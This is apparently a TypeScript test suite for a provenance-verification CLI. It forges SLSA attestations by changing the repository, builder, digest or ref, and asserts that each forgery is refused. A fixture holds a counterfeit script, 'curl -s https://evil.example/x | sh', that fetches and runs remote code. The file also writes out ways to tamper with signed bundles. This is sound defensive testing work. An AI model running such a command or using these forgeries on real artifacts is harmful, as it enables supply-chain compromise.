import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import type { KeyObject } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { bundleToJSON } from '@sigstore/bundle';
import { DSSEBundleBuilder, RekorWitness } from '@sigstore/sign';
import type { Signer as BundleSigner } from '@sigstore/sign';
import { MAX_PAYLOAD_BYTES } from '../attestations/dsse.js';
import { noopLogger } from '../context.js';
import { isVouchError } from '../errors.js';
import type { VouchError } from '../errors.js';
import type { Evidence } from '../evidence/index.js';
import { runCli } from '../testing/cli.js';
import { needsRealdata, realdata } from '../testing/realdata.js';
import { MOCK_IDENTITY, MOCK_ISSUER, MOCK_REKOR, startSigstoreMock } from '../testing/sigstore-mock.js';
import type { SigstoreMock } from '../testing/sigstore-mock.js';
import { collectArtifactEvidence } from './artifact.js';
import { DEFAULT_LIMITS } from './options.js';
import type { ProvenanceExpectations, SigstoreOptions } from './options.js';

/**
 * Forged provenance for `vouch artifact --attestation`: real slsa-github-generator provenance
 * with its source repository, builder, subject digest or ref changed, (a) edited inside the
 * original signed bundle, (b) re-signed by a key or a certificate the trust material does not
 * hold, or by a trusted test CA whose identity is not the builder. Each forged statement is
 * checked against the expectations it was forged to meet; none may yield verified provenance,
 * each must leave a failed check, and the only exception allowed is a could-not-check VouchError.
 * A control signs the same forged statements with a key the user trusts and sees them pass, so
 * what stops them is the signature, not a forgery that missed its aim.
 */
const T = 'slsa-framework-slsa-verifier/cli/slsa-verifier/testdata/';
const GEN = 'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/';
const EXAMPLE = 'github.com/slsa-framework/example-package';
const IN_TOTO = 'application/vnd.in-toto+json';
const ctx = { now: new Date('2026-11-01T00:00:00Z'), log: noopLogger };

type Json = Record<string, unknown>;

interface Real {
  readonly name: string;
  readonly artifact: string;
  readonly attestation: string;
  /** Expectations the honest provenance meets. */
  readonly expected: Partial<ProvenanceExpectations>;
  /** Where the predicate names its builder (SLSA v0.2 or v1). */
  readonly builderPath: readonly string[];
  /** The builder a forger would rather claim. */
  readonly otherBuilder: string;
}

const REAL: readonly Real[] = [
  {
    name: 'generic generator v2.1.0 (bundle v0.3, SLSA v0.2)',
    artifact: `${T}gha_generic/v2.1.0/binary-linux-amd64-workflow_dispatch`,
    attestation: `${T}gha_generic/v2.1.0/binary-linux-amd64-workflow_dispatch.intoto.jsonl`,
    expected: { sourceUri: EXAMPLE, sourceBranch: 'main', builderId: `${GEN}generator_generic_slsa3.yml` },
    builderPath: ['predicate', 'builder', 'id'],
    otherBuilder: `${GEN}builder_go_slsa3.yml@refs/tags/v2.1.0`,
  },
  {
    name: 'container-based builder v1.7.0 (bundle v0.1, SLSA v1)',
    artifact: `${T}gha_container-based/v1.7.0/binary-linux-amd64-workflow_dispatch`,
    attestation: `${T}gha_container-based/v1.7.0/binary-linux-amd64-workflow_dispatch.intoto.sigstore`,
    expected: { sourceUri: EXAMPLE, sourceBranch: 'main', builderId: `${GEN}builder_container-based_slsa3.yml` },
    builderPath: ['predicate', 'runDetails', 'builder', 'id'],
    otherBuilder: `${GEN}builder_go_slsa3.yml@refs/tags/v1.7.0`,
  },
  {
    name: 'delegated builder v2.1.0 (.build.slsa, bundle v0.2, SLSA v1)',
    artifact: `${T}gha_delegator/v2.1.0/binary-linux-amd64-workflow_dispatch`,
    attestation: `${T}gha_delegator/v2.1.0/binary-linux-amd64-workflow_dispatch.build.slsa`,
    expected: { sourceUri: EXAMPLE, sourceBranch: 'main', builderId: 'https://github.com/slsa-framework/example-trw/.github/workflows/builder_high-perms_slsa3.yml' },
    builderPath: ['predicate', 'runDetails', 'builder', 'id'],
    otherBuilder: 'https://github.com/evil-fork/example-trw/.github/workflows/builder_high-perms_slsa3.yml@refs/tags/v2.1.0',
  },
];

/** The file a forger wants the provenance to vouch for. */
const COUNTERFEIT = Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
const COUNTERFEIT_SHA256 = crypto.createHash('sha256').update(COUNTERFEIT).digest('hex');

interface Tamper {
  readonly name: string;
  edit(statement: Json, real: Real): Json;
  /** The expectations the forged statement is made to meet. */
  wants(real: Real): Partial<ProvenanceExpectations>;
  /** Verify the counterfeit file instead of the real artifact. */
  readonly counterfeit?: boolean;
}

const replaced = (statement: Json, from: string, to: string): Json => JSON.parse(JSON.stringify(statement).replaceAll(from, to)) as Json;
const withoutRef = (id: string) => id.slice(0, id.lastIndexOf('@'));

const TAMPERS: readonly Tamper[] = [
  {
    name: 'source repository',
    edit: (s) => replaced(s, 'slsa-framework/example-package', 'evil-fork/example-package'),
    wants: (r) => ({ ...r.expected, sourceUri: 'github.com/evil-fork/example-package' }),
  },
  {
    name: 'builder id',
    edit: (s, r) => {
      const copy = structuredClone(s);
      const parent = r.builderPath.slice(0, -1).reduce<Json>((o, k) => o[k] as Json, copy);
      parent[r.builderPath[r.builderPath.length - 1] ?? ''] = r.otherBuilder;
      return copy;
    },
    wants: (r) => ({ ...r.expected, builderId: withoutRef(r.otherBuilder) }),
  },
  {
    name: 'subject digest',
    edit: (s) => ({ ...structuredClone(s), subject: [{ name: 'release-binary', digest: { sha256: COUNTERFEIT_SHA256 } }] }),
    wants: (r) => r.expected,
    counterfeit: true,
  },
  {
    name: 'ref (branch main rewritten to tag v1.0.0)',
    edit: (s) => replaced(s, 'refs/heads/main', 'refs/tags/v1.0.0'),
    wants: ({ expected: { sourceBranch: _branch, ...rest } }) => ({ ...rest, sourceTag: 'v1.0.0' }),
  },
];

let mock: SigstoreMock;
let dir: string;
let mockRoot: string;
let counterfeitFile: string;
const trustedKey = crypto.generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
const freshKey = crypto.generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
let trustedKeyFile: string;

before(async () => {
  mock = await startSigstoreMock();
  dir = mkdtempSync(join(tmpdir(), 'vouch-provenance-tamper-'));
  mockRoot = write('mock_trusted_root.json', mock.trustedRoot);
  counterfeitFile = write('counterfeit', COUNTERFEIT);
  trustedKeyFile = write('trusted.pub', trustedKey.publicKey.export({ format: 'pem', type: 'spki' }).toString());
});
after(() => {
  mock.stop();
  rmSync(dir, { recursive: true, force: true });
});

let n = 0;
function write(name: string, content: unknown): string {
  const path = join(dir, `${n++}-${name}`);
  writeFileSync(path, Buffer.isBuffer(content) || typeof content === 'string' ? content : JSON.stringify(content));
  return path;
}

function readBundle(real: Real): Json {
  return JSON.parse(readFileSync(realdata(real.attestation), 'utf8')) as Json;
}
function envelopeOf(bundle: Json): { payloadType: string; payload: string } {
  return bundle['dsseEnvelope'] as { payloadType: string; payload: string };
}
function statementOf(real: Real): Json {
  return JSON.parse(Buffer.from(envelopeOf(readBundle(real)).payload, 'base64').toString('utf8')) as Json;
}

/** The original bundle, certificate, signature and log entry untouched, with another payload. */
function editedBundle(real: Real, payload: Buffer, payloadType?: string): string {
  const bundle = readBundle(real);
  const env = envelopeOf(bundle);
  env.payload = payload.toString('base64');
  if (payloadType !== undefined) env.payloadType = payloadType;
  return write('edited.json', bundle);
}

function keySigner(key: { privateKey: KeyObject; publicKey: KeyObject }): BundleSigner {
  const pem = key.publicKey.export({ format: 'pem', type: 'spki' }).toString();
  return { sign: async (data) => ({ signature: crypto.sign('sha256', data, key.privateKey), key: { $case: 'publicKey', publicKey: pem } }) };
}

/** A DSSE bundle signed by the key, logged in the test Rekor; any payload type. */
async function signedByKey(key: { privateKey: KeyObject; publicKey: KeyObject }, payload: Buffer, payloadType = IN_TOTO): Promise<string> {
  const builder = new DSSEBundleBuilder({ signer: keySigner(key), witnesses: [new RekorWitness({ rekorBaseURL: MOCK_REKOR, entryType: 'dsse' })] });
  return write('keyed.json', bundleToJSON(await builder.create({ data: payload, type: payloadType })));
}

/** A keyless bundle from the test CA (identity MOCK_IDENTITY) and the test Rekor. */
async function signedByMock(statement: Json): Promise<string> {
  return write('mock.json', await mock.signStatement(statement));
}

type Outcome = { readonly evidence: Evidence } | { readonly error: VouchError };

async function verify(target: string, attestation: string, provenance: Partial<ProvenanceExpectations>, sigstore: Partial<SigstoreOptions> = {}): Promise<Outcome> {
  try {
    const evidence = await collectArtifactEvidence(
      {
        target,
        attestations: [attestation],
        sigstore: { expected: {}, insecureIgnoreTlog: false, ...sigstore },
        provenance: { workflowInputs: {}, ...provenance },
        limits: DEFAULT_LIMITS,
      },
      ctx,
    );
    return { evidence };
  } catch (err) {
    // Only "could not check" may be thrown; anything else (a TypeError, a usage error) is a bug.
    assert.ok(isVouchError(err), `threw a non-VouchError: ${String(err)}`);
    assert.ok(!['USAGE', 'INTERNAL', 'POLICY_INVALID'].includes(err.code), `threw ${err.code}: ${err.message}`);
    return { error: err };
  }
}

const failedCodes = (e: Evidence) => e.checks.filter((c) => c.status === 'fail').map((c) => c.code);
const checkOf = (e: Evidence, id: string) => e.checks.find((c) => c.id === id);

/** No verified provenance, and a failed check with each of the given codes. */
function assertRefused(o: Outcome, codes: readonly string[], what: string): void {
  if ('error' in o) return;
  const e = o.evidence;
  const failed = failedCodes(e);
  assert.ok(failed.length > 0, `${what}: no check failed`);
  for (const code of codes) assert.ok(failed.includes(code), `${what}: expected a failed ${code}, got ${failed.join(', ')}`);
  assert.equal(e.provenance.some((p) => p.verified), false, `${what}: provenance verified`);
  assert.equal(e.expectations['provenance'], true);
}

function assertPassed(o: Outcome, what: string): void {
  assert.ok('evidence' in o, `${what}: threw ${'error' in o ? o.error.message : ''}`);
  assert.deepEqual(failedCodes(o.evidence), [], `${what}: every check passes`);
  assert.equal(o.evidence.provenance[0]?.verified, true, `${what}: provenance verified`);
}

function targetOf(real: Real, tamper: Tamper): string {
  return tamper.counterfeit ? counterfeitFile : realdata(real.artifact);
}

describe('forged provenance: the honest originals pass, and a trusted key would make the forgeries pass', () => {
  for (const real of REAL) {
    test(`${real.name}: the original passes its expectations`, needsRealdata(), async () => {
      assertPassed(await verify(realdata(real.artifact), realdata(real.attestation), real.expected), real.name);
    });
    test(`${real.name}: each forged statement, signed by a key the user trusts, meets the expectations it was forged for`, needsRealdata(), async () => {
      for (const tamper of TAMPERS) {
        const forged = tamper.edit(statementOf(real), real);
        const file = await signedByKey(trustedKey, Buffer.from(JSON.stringify(forged)));
        assertPassed(await verify(targetOf(real, tamper), file, tamper.wants(real), { key: trustedKeyFile, trustedRoot: mockRoot }), `${real.name} / ${tamper.name}`);
      }
    });
  }
});

describe('forged provenance (a): the payload edited inside the original signed bundle', () => {
  for (const real of REAL) {
    for (const tamper of TAMPERS) {
      test(`${real.name}: ${tamper.name}`, needsRealdata(), async () => {
        const forged = tamper.edit(statementOf(real), real);
        const file = editedBundle(real, Buffer.from(JSON.stringify(forged)));
        const o = await verify(targetOf(real, tamper), file, tamper.wants(real));
        assertRefused(o, ['ATTESTATION_SIGNATURE_INVALID'], `${real.name} / ${tamper.name}`);
        if ('evidence' in o) {
          assert.equal(checkOf(o.evidence, 'provenance.signature')?.status, 'fail');
          assert.equal(o.evidence.attestations.some((a) => a.verified), false);
        }
      });
    }
  }
});

describe('forged provenance (b): re-signed by a signer the trust material does not vouch for as the builder', () => {
  for (const real of REAL) {
    for (const tamper of TAMPERS) {
      test(`${real.name}: ${tamper.name}`, needsRealdata(), async () => {
        const forged = tamper.edit(statementOf(real), real);
        const what = `${real.name} / ${tamper.name}`;
        const target = targetOf(real, tamper);
        const wants = tamper.wants(real);

        // A fresh key: not given at all, or the user trusts another key.
        const keyed = await signedByKey(freshKey, Buffer.from(JSON.stringify(forged)));
        for (const sigstore of [{ trustedRoot: mockRoot }, { trustedRoot: mockRoot, key: trustedKeyFile }, {}]) {
          const o = await verify(target, keyed, wants, sigstore);
          assertRefused(o, ['ATTESTATION_SIGNATURE_INVALID'], `${what}, fresh key, ${JSON.stringify(Object.keys(sigstore))}`);
          if ('evidence' in o) assert.equal(checkOf(o.evidence, 'provenance.signature')?.status, 'fail');
        }

        // A certificate from a CA the (public-good) trust material does not contain.
        const keyless = await signedByMock(forged);
        const untrusted = await verify(target, keyless, wants);
        assertRefused(untrusted, ['CERTIFICATE_UNTRUSTED', 'ATTESTATION_SIGNATURE_INVALID'], `${what}, test CA untrusted`);

        // The test CA trusted: the signature holds, but the signer is not the builder.
        const trusted = await verify(target, keyless, wants, { trustedRoot: mockRoot });
        assertRefused(trusted, ['BUILDER_IDENTITY_MISMATCH'], `${what}, test CA trusted`);
        if ('evidence' in trusted) {
          assert.equal(checkOf(trusted.evidence, 'provenance.signature')?.code, 'SIGNATURE_VERIFIED');
          assert.equal(checkOf(trusted.evidence, 'provenance.builder')?.found, MOCK_IDENTITY);
        }
      });
    }
  }
});

describe('forged provenance (b): rewritten to agree with the test signer, it still needs the builder the user trusts', () => {
  let file: string;
  const forge = (real: Real): Json => {
    const s = replaced(statementOf(real), 'slsa-framework/example-package', 'acme/widget');
    (s['predicate'] as { builder: { id: string } }).builder.id = MOCK_IDENTITY;
    return s;
  };
  const real = REAL[0] as Real;
  const sigstore = (over: Partial<SigstoreOptions> = {}): Partial<SigstoreOptions> => ({ trustedRoot: mockRoot, ...over });
  before(async () => {
    if (needsRealdata().skip) return;
    file = await signedByMock(forge(real));
  });

  test('with --builder-id naming that signer it passes: the forgery is coherent', needsRealdata(), async () => {
    assertPassed(await verify(realdata(real.artifact), file, { sourceUri: 'github.com/acme/widget', builderId: withoutRef(MOCK_IDENTITY) }, sigstore()), 'named signer');
  });

  test('without --builder-id: BUILDER_UNTRUSTED (not one of the default trusted builders)', needsRealdata(), async () => {
    const o = await verify(realdata(real.artifact), file, { sourceUri: 'github.com/acme/widget' }, sigstore());
    assertRefused(o, ['BUILDER_UNTRUSTED'], 'no builder id');
  });

  test('with the real builder as --builder-id: BUILDER_ID_MISMATCH', needsRealdata(), async () => {
    const o = await verify(realdata(real.artifact), file, { sourceUri: 'github.com/acme/widget', builderId: `${GEN}generator_generic_slsa3.yml` }, sigstore());
    assertRefused(o, ['BUILDER_ID_MISMATCH'], 'real builder id');
  });

  test('with the real builder as --certificate-identity: the signature stage refuses the signer', needsRealdata(), async () => {
    const expected = { identity: `${GEN}generator_generic_slsa3.yml@refs/tags/v2.1.0`, issuer: MOCK_ISSUER };
    const o = await verify(realdata(real.artifact), file, { sourceUri: 'github.com/acme/widget' }, sigstore({ expected }));
    assertRefused(o, ['SIGNER_IDENTITY_MISMATCH', 'ATTESTATION_SIGNATURE_INVALID'], 'named identity');
  });
});

describe('statements vouch refuses even when signed by a trusted key', () => {
  const real = REAL[0] as Real;
  const trusted = { key: '', trustedRoot: '' };
  before(() => {
    trusted.key = trustedKeyFile;
    trusted.trustedRoot = mockRoot;
  });

  test('a payload type other than application/vnd.in-toto+json', needsRealdata(), async () => {
    const payload = Buffer.from(JSON.stringify(statementOf(real)));
    for (const type of ['application/json', 'text/plain', 'application/vnd.in-toto+json; charset=utf-8', '']) {
      const o = await verify(realdata(real.artifact), await signedByKey(trustedKey, payload, type), real.expected, trusted);
      // An empty type is dropped by the bundle's JSON form, so the envelope itself is malformed.
      assertRefused(o, [type === '' ? 'DSSE_MALFORMED' : 'STATEMENT_PAYLOAD_TYPE'], `signed payload type ${JSON.stringify(type)}`);
      if ('evidence' in o) assert.equal(o.evidence.provenance.length, 0);
    }
    // Only the type changed in the original bundle: the signature (over the type too) breaks as well.
    const edited = editedBundle(real, Buffer.from(envelopeOf(readBundle(real)).payload, 'base64'), 'application/json');
    assertRefused(await verify(realdata(real.artifact), edited, real.expected), ['SIGNATURE_INVALID', 'STATEMENT_PAYLOAD_TYPE'], 'edited payload type');
  });

  test('the same subject name listed twice with different digests', needsRealdata(), async () => {
    const statement = statementOf(real);
    const [subject] = statement['subject'] as { name: string; digest: Record<string, string> }[];
    assert.ok(subject);
    const other = { name: subject.name, digest: { sha256: COUNTERFEIT_SHA256 } };
    const differentAlgorithm = { name: subject.name, digest: { sha512: crypto.createHash('sha512').update(COUNTERFEIT).digest('hex') } };
    for (const subjects of [[subject, other], [other, subject], [subject, differentAlgorithm]]) {
      const file = await signedByKey(trustedKey, Buffer.from(JSON.stringify({ ...statement, subject: subjects })));
      for (const target of [realdata(real.artifact), counterfeitFile]) {
        const o = await verify(target, file, real.expected, trusted);
        assertRefused(o, ['STATEMENT_DUPLICATE_SUBJECT'], `duplicate subjects, ${target === counterfeitFile ? 'counterfeit' : 'real'} artifact`);
      }
    }
  });

  test('a predicate beyond the payload cap: refused before any parsing, quickly, without a throw', needsRealdata(), async () => {
    const statement = statementOf(real);
    const huge = { ...statement, predicate: { ...(statement['predicate'] as Json), padding: 'x'.repeat(MAX_PAYLOAD_BYTES + 1024) } };
    const payload = Buffer.from(JSON.stringify(huge));
    assert.ok(payload.length > MAX_PAYLOAD_BYTES);
    const started = Date.now();
    for (const [what, file, sigstore] of [
      ['in the original bundle', editedBundle(real, payload), {}],
      ['signed by a trusted key', await signedByKey(trustedKey, payload), trusted],
    ] as const) {
      const o = await verify(realdata(real.artifact), file, real.expected, sigstore);
      assertRefused(o, ['DSSE_TOO_LARGE', 'ATTESTATION_SIGNATURE_INVALID'], `huge predicate ${what}`);
      if ('evidence' in o) assert.equal(o.evidence.provenance.length, 0);
    }
    assert.ok(Date.now() - started < 30_000, 'refusing a huge payload takes seconds, not minutes');
  });
});

describe('forged provenance through the CLI', () => {
  test('vouch artifact with a payload edited in the original bundle: exit 1, verdict fail, the failed checks named', needsRealdata(), async () => {
    const real = REAL[0] as Real;
    const tamper = TAMPERS[0] as Tamper;
    const file = editedBundle(real, Buffer.from(JSON.stringify(tamper.edit(statementOf(real), real))));
    const r = await runCli(['artifact', realdata(real.artifact), '--attestation', file, '--source-uri', 'github.com/evil-fork/example-package', '--format', 'json']);
    assert.equal(r.code, 1, r.stderr);
    const report = JSON.parse(r.stdout) as { verdict: string; evidence: Evidence };
    assert.equal(report.verdict, 'fail');
    assert.equal(checkOf(report.evidence, 'provenance.signature')?.status, 'fail');
    assert.equal(checkOf(report.evidence, 'provenance.attestations')?.code, 'ATTESTATION_SIGNATURE_INVALID');
    assert.equal(report.evidence.provenance.some((p) => p.verified), false);
  });
});
